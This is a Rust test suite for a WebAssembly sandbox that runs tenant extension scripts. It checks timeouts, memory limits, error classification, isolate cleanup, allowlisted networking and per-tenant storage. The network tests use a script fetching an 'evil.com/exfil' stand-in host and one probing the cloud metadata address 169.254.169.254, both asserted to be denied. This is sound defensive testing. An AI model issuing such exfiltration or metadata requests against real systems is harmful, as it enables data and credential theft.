mod common;

use common::*;
use extbox_sandbox::SandboxConfig;
use extbox_types::{CodeRef, ExecutionResult, NetworkCapabilityLevel, OutcomeKind, TenantId};
use pretty_assertions::assert_eq;
use serde_json::Value;
use std::sync::Arc;
use std::time::{Duration, Instant};

// ── Completion ───────────────────────────────────────────────────

#[tokio::test]
async fn completed_script_returns_replies() {
    let h = harness(test_config());
    h.add_script("hello", reply_script("hello, world"));

    let result = h
        .engine
        .run(&descriptor("guild-1", "hello", "hello"), &command_context("guild-1", ""))
        .await;

    assert_eq!(result.kind(), OutcomeKind::Completed);
    assert_eq!(result.replies(), ["hello, world".to_string()]);
    let d = result.diagnostics();
    assert_eq!(d.tenant_id, TenantId::from("guild-1"));
    assert_eq!(d.extension_id.as_str(), "hello");
    assert_eq!(d.channel_id.as_ref().map(|c| c.as_str()), Some("general"));
}

#[tokio::test]
async fn script_reads_its_context() {
    let h = harness(test_config());
    h.add_script("echo", echo_context_script());

    let result = h
        .engine
        .run(&descriptor("guild-1", "echo", "echo"), &command_context("guild-1", "london"))
        .await;

    assert!(result.is_completed(), "{result:?}");
    let context: Value = serde_json::from_str(&result.replies()[0]).unwrap();
    assert_eq!(context["tenant_id"], "guild-1");
    assert_eq!(context["event"]["kind"], "command");
    assert_eq!(context["event"]["args"], "london");
}

#[tokio::test]
async fn each_invocation_gets_its_own_id() {
    let h = harness(test_config());
    h.add_script("hello", reply_script("hi"));
    let d = descriptor("guild-1", "hello", "hello");
    let ctx = command_context("guild-1", "");

    let a = h.engine.run(&d, &ctx).await;
    let b = h.engine.run(&d, &ctx).await;
    assert_ne!(a.diagnostics().invocation_id, b.diagnostics().invocation_id);
}

#[tokio::test]
async fn out_of_bounds_guest_slice_is_rejected() {
    let h = harness(test_config());
    h.add_script(
        "oob",
        r#"(module
  (import "extbox" "reply" (func $reply (param i32 i32) (result i32)))
  (memory (export "memory") 1)
  (data (i32.const 0) "rejected")
  (func (export "run")
    (if (i32.eq (call $reply (i32.const 0) (i32.const 0x7fffffff)) (i32.const -1))
      (then (drop (call $reply (i32.const 0) (i32.const 8)))))
    (if (i32.eq (call $reply (i32.const 65530) (i32.const 16)) (i32.const -1))
      (then (drop (call $reply (i32.const 0) (i32.const 8)))))))"#,
    );

    let result = h
        .engine
        .run(&descriptor("guild-1", "oob", "oob"), &command_context("guild-1", ""))
        .await;

    assert_eq!(result.kind(), OutcomeKind::Completed);
    assert_eq!(result.replies(), ["rejected".to_string(), "rejected".to_string()]);
}

// ── Failure classification ───────────────────────────────────────

#[tokio::test]
async fn infinite_loop_times_out_near_budget() {
    let h = harness(test_config());
    h.add_script("spin", INFINITE_LOOP);
    let mut d = descriptor("guild-1", "spin", "spin");
    d.timeout_ms = 50;
    h.engine.loader().load(&CodeRef::from("spin")).await.unwrap();

    let started = Instant::now();
    let result = h.engine.run(&d, &command_context("guild-1", "")).await;

    assert!(
        matches!(result, ExecutionResult::TimeoutError { timeout_ms: 50, .. }),
        "{result:?}"
    );
    assert!(started.elapsed() < Duration::from_millis(500));
}

#[tokio::test]
async fn timeout_is_clamped_to_host_maximum() {
    let config = SandboxConfig {
        max_timeout_ms: 100,
        ..test_config()
    };
    let h = harness(config);
    h.add_script("spin", INFINITE_LOOP);
    let mut d = descriptor("guild-1", "spin", "spin");
    d.timeout_ms = 60_000;

    let result = h.engine.run(&d, &command_context("guild-1", "")).await;
    assert!(matches!(result, ExecutionResult::TimeoutError { timeout_ms: 100, .. }));
}

#[tokio::test]
async fn runaway_growth_is_a_memory_limit_error() {
    let config = SandboxConfig {
        isolate_memory_limit_mb: 1,
        ..test_config()
    };
    let h = harness(config);
    h.add_script("hog", MEMORY_HOG);

    let result = h
        .engine
        .run(&descriptor("guild-1", "hog", "hog"), &command_context("guild-1", ""))
        .await;

    assert!(
        matches!(result, ExecutionResult::MemoryLimitError { limit_bytes: 1_048_576, .. }),
        "{result:?}"
    );
}

#[tokio::test]
async fn oversized_initial_memory_is_a_memory_limit_error() {
    let h = harness(test_config());
    h.add_script("big", LARGE_INITIAL_MEMORY);

    let result = h
        .engine
        .run(&descriptor("guild-1", "big", "big"), &command_context("guild-1", ""))
        .await;
    assert_eq!(result.kind(), OutcomeKind::MemoryLimitError, "{result:?}");
}

#[tokio::test]
async fn malformed_source_is_a_load_error() {
    let h = harness(test_config());
    h.add_script("broken", "(module (func (export \"run\")");

    let result = h
        .engine
        .run(&descriptor("guild-1", "broken", "broken"), &command_context("guild-1", ""))
        .await;
    assert_eq!(result.kind(), OutcomeKind::LoadError);
}

#[tokio::test]
async fn unknown_code_ref_is_a_load_error() {
    let h = harness(test_config());
    let result = h
        .engine
        .run(&descriptor("guild-1", "ghost", "nowhere"), &command_context("guild-1", ""))
        .await;
    assert_eq!(result.kind(), OutcomeKind::LoadError);
}

#[tokio::test]
async fn missing_entry_point_is_a_load_error() {
    let h = harness(test_config());
    h.add_script("main", NO_ENTRY_POINT);
    let result = h
        .engine
        .run(&descriptor("guild-1", "main", "main"), &command_context("guild-1", ""))
        .await;
    assert_eq!(result.kind(), OutcomeKind::LoadError);
    assert!(result.failure_detail().unwrap().contains("run"));
}

#[tokio::test]
async fn unknown_import_is_a_setup_error() {
    let h = harness(test_config());
    h.add_script("rogue", UNKNOWN_IMPORT);
    let result = h
        .engine
        .run(&descriptor("guild-1", "rogue", "rogue"), &command_context("guild-1", ""))
        .await;
    assert_eq!(result.kind(), OutcomeKind::SetupError, "{result:?}");
}

#[tokio::test]
async fn explicit_failure_is_a_runtime_error() {
    let h = harness(test_config());
    h.add_script("fail", FAILING);
    let result = h
        .engine
        .run(&descriptor("guild-1", "fail", "fail"), &command_context("guild-1", ""))
        .await;
    assert_eq!(result.kind(), OutcomeKind::RuntimeError);
    assert!(result.failure_detail().unwrap().contains("boom"));
}

#[tokio::test]
async fn trap_and_nonzero_status_are_runtime_errors() {
    let h = harness(test_config());
    h.add_script("trap", UNREACHABLE);
    h.add_script("status", NONZERO_STATUS);
    let ctx = command_context("guild-1", "");

    let trap = h.engine.run(&descriptor("guild-1", "trap", "trap"), &ctx).await;
    assert_eq!(trap.kind(), OutcomeKind::RuntimeError);
    assert!(trap.failure_detail().unwrap().contains("wasm trap"));

    let status = h.engine.run(&descriptor("guild-1", "status", "status"), &ctx).await;
    assert_eq!(status.kind(), OutcomeKind::RuntimeError);
    assert!(status.failure_detail().unwrap().contains("status 3"));
}

#[tokio::test]
async fn foreign_tenant_context_is_rejected() {
    let h = harness(test_config());
    h.add_script("hello", reply_script("hi"));
    let result = h
        .engine
        .run(&descriptor("guild-1", "hello", "hello"), &command_context("guild-2", ""))
        .await;
    assert_eq!(result.kind(), OutcomeKind::SetupError);
}

#[tokio::test]
async fn oversized_reply_is_refused_but_run_completes() {
    let config = SandboxConfig {
        max_output_bytes: 4,
        ..test_config()
    };
    let h = harness(config);
    h.add_script("chatty", reply_script("far too long"));
    let result = h
        .engine
        .run(&descriptor("guild-1", "chatty", "chatty"), &command_context("guild-1", ""))
        .await;
    assert!(result.is_completed());
    assert!(result.replies().is_empty());
}

// ── Isolate lifecycle ────────────────────────────────────────────

#[tokio::test]
async fn every_created_isolate_is_disposed() {
    let config = SandboxConfig {
        isolate_memory_limit_mb: 1,
        ..test_config()
    };
    let h = harness(config);
    h.add_script("hello", reply_script("hi"));
    h.add_script("spin", INFINITE_LOOP);
    h.add_script("hog", MEMORY_HOG);
    h.add_script("fail", FAILING);
    h.add_script("big", LARGE_INITIAL_MEMORY);
    let ctx = command_context("guild-1", "");

    for code_ref in ["hello", "spin", "hog", "fail", "big", "nowhere"] {
        let mut d = descriptor("guild-1", code_ref, code_ref);
        d.timeout_ms = 50;
        h.engine.run(&d, &ctx).await;
    }

    let tracker = h.engine.tracker();
    // "nowhere" fails to load before an isolate exists.
    assert_eq!(tracker.created(), 5);
    assert_eq!(tracker.disposed(), 5);
    assert_eq!(tracker.live(), 0);
    assert_eq!(h.engine.pool().available(), h.engine.pool().capacity());
}

#[tokio::test]
async fn compiled_modules_are_cached_by_content() {
    let h = harness(test_config());
    h.add_script("a", reply_script("same"));
    h.add_script("b", reply_script("same"));
    let ctx = command_context("guild-1", "");

    h.engine.run(&descriptor("guild-1", "a", "a"), &ctx).await;
    h.engine.run(&descriptor("guild-1", "b", "b"), &ctx).await;
    h.engine.run(&descriptor("guild-1", "a", "a"), &ctx).await;
    assert_eq!(h.engine.loader().cache().len(), 1);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn saturated_pool_yields_setup_error() {
    let config = SandboxConfig {
        max_concurrent_isolates: 1,
        queue_timeout_ms: 50,
        ..test_config()
    };
    let h = harness(config);
    h.add_script("spin", INFINITE_LOOP);
    h.add_script("hello", reply_script("hi"));

    let engine = Arc::clone(&h.engine);
    let mut spin = descriptor("guild-1", "spin", "spin");
    spin.timeout_ms = 1_000;
    let busy = tokio::spawn(async move { engine.run(&spin, &command_context("guild-1", "")).await });

    tokio::time::sleep(Duration::from_millis(200)).await;
    let result = h
        .engine
        .run(&descriptor("guild-1", "hello", "hello"), &command_context("guild-1", ""))
        .await;
    assert_eq!(result.kind(), OutcomeKind::SetupError);
    assert!(result.failure_detail().unwrap().contains("saturated"));

    assert_eq!(busy.await.unwrap().kind(), OutcomeKind::TimeoutError);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn concurrent_runs_are_independent() {
    let h = harness(test_config());
    for i in 0..8 {
        h.add_script(&format!("s{i}"), reply_script(&format!("reply {i}")));
    }

    let mut handles = Vec::new();
    for i in 0..8 {
        let engine = Arc::clone(&h.engine);
        handles.push(tokio::spawn(async move {
            let d = descriptor("guild-1", &format!("s{i}"), &format!("s{i}"));
            engine.run(&d, &command_context("guild-1", "")).await
        }));
    }
    for (i, handle) in handles.into_iter().enumerate() {
        let result = handle.await.unwrap();
        assert_eq!(result.replies(), [format!("reply {i}")]);
    }
    assert_eq!(h.engine.tracker().live(), 0);
}

// ── Mediated network end to end ──────────────────────────────────

#[tokio::test]
async fn allowlisted_fetch_reaches_the_script() {
    let h = harness(test_config());
    h.transport.route("api.example.com", Route::ok(r#"{"temp":21}"#));
    h.add_script("weather", fetch_and_reply_script("https://api.example.com/today"));
    let d = networked(
        descriptor("guild-1", "weather", "weather"),
        NetworkCapabilityLevel::AllowlistOnly,
        false,
        &["api.example.com"],
    );

    let result = h.engine.run(&d, &command_context("guild-1", "")).await;
    assert_eq!(result.replies(), [r#"{"temp":21}"#.to_string()]);

    let sent = h.transport.requests();
    assert_eq!(sent.len(), 1);
    assert_eq!(sent[0].host, "api.example.com");
    assert_eq!(sent[0].addrs[0].ip().to_string(), PUBLIC_IP);
}

#[tokio::test]
async fn denied_fetch_is_a_value_not_a_failure() {
    let h = harness(test_config());
    h.add_script("leak", fetch_and_reply_script("https://evil.com/exfil"));
    let d = networked(
        descriptor("guild-1", "leak", "leak"),
        NetworkCapabilityLevel::AllowlistOnly,
        false,
        &["api.example.com"],
    );

    let result = h.engine.run(&d, &command_context("guild-1", "")).await;
    assert!(result.is_completed());
    let error: Value = serde_json::from_str(&result.replies()[0]).unwrap();
    assert_eq!(error["error"], "network_denied");
    assert_eq!(h.transport.request_count(), 0);
}

#[tokio::test]
async fn metadata_fetch_is_denied_even_when_approved() {
    let h = harness(test_config());
    h.add_script("imds", fetch_and_reply_script("http://169.254.169.254/latest/meta-data/"));
    let d = networked(
        descriptor("guild-1", "imds", "imds"),
        NetworkCapabilityLevel::NetworkAdvanced,
        true,
        &[],
    );

    let result = h.engine.run(&d, &command_context("guild-1", "")).await;
    let error: Value = serde_json::from_str(&result.replies()[0]).unwrap();
    assert_eq!(error["error"], "network_denied");
    assert_eq!(h.transport.request_count(), 0);
}

#[tokio::test]
async fn slow_fetch_hits_network_timeout_inside_budget() {
    let config = SandboxConfig {
        network_timeout_ms: 100,
        ..test_config()
    };
    let h = harness(config);
    h.transport.route(
        "slow.example.com",
        Route::ok("late").with_delay(Duration::from_secs(5)),
    );
    h.add_script("slow", fetch_and_reply_script("https://slow.example.com/"));
    let d = networked(
        descriptor("guild-1", "slow", "slow"),
        NetworkCapabilityLevel::AllowlistOnly,
        false,
        &["slow.example.com"],
    );

    let result = h.engine.run(&d, &command_context("guild-1", "")).await;
    assert!(result.is_completed(), "{result:?}");
    let error: Value = serde_json::from_str(&result.replies()[0]).unwrap();
    assert_eq!(error["error"], "network_timeout");
}

#[tokio::test]
async fn isolate_timeout_cancels_in_flight_fetch() {
    let config = SandboxConfig {
        network_timeout_ms: 10_000,
        ..test_config()
    };
    let h = harness(config);
    h.transport.route(
        "slow.example.com",
        Route::ok("late").with_delay(Duration::from_secs(10)),
    );
    h.add_script("slow", fetch_and_reply_script("https://slow.example.com/"));
    let mut d = networked(
        descriptor("guild-1", "slow", "slow"),
        NetworkCapabilityLevel::AllowlistOnly,
        false,
        &["slow.example.com"],
    );
    d.timeout_ms = 100;

    let started = Instant::now();
    let result = h.engine.run(&d, &command_context("guild-1", "")).await;

    assert_eq!(result.kind(), OutcomeKind::TimeoutError);
    assert!(started.elapsed() < Duration::from_secs(2));
    assert!(h.transport.was_cancelled());
    assert_eq!(h.engine.tracker().live(), 0);
}

// ── Storage end to end ───────────────────────────────────────────

#[tokio::test]
async fn storage_persists_across_invocations() {
    let h = harness(test_config());
    h.add_script("write", storage_write_script("greeting", "hello"));
    h.add_script("read", storage_read_script("greeting"));
    let ctx = command_context("guild-1", "");

    // Same extension id, two code refs: one namespace.
    let writer = h.engine.run(&descriptor("guild-1", "notes", "write"), &ctx).await;
    assert!(writer.is_completed(), "{writer:?}");
    let reader = h.engine.run(&descriptor("guild-1", "notes", "read"), &ctx).await;
    assert_eq!(reader.replies(), ["hello".to_string()]);
}

#[tokio::test]
async fn storage_is_isolated_per_tenant_and_extension() {
    let h = harness(test_config());
    h.add_script("write", storage_write_script("secret", "tenant-a"));
    h.add_script("read", storage_read_script("secret"));

    h.engine
        .run(&descriptor("guild-a", "notes", "write"), &command_context("guild-a", ""))
        .await;

    let other_tenant = h
        .engine
        .run(&descriptor("guild-b", "notes", "read"), &command_context("guild-b", ""))
        .await;
    assert_eq!(other_tenant.replies(), ["missing".to_string()]);

    let other_extension = h
        .engine
        .run(&descriptor("guild-a", "todo", "read"), &command_context("guild-a", ""))
        .await;
    assert_eq!(other_extension.replies(), ["missing".to_string()]);
}
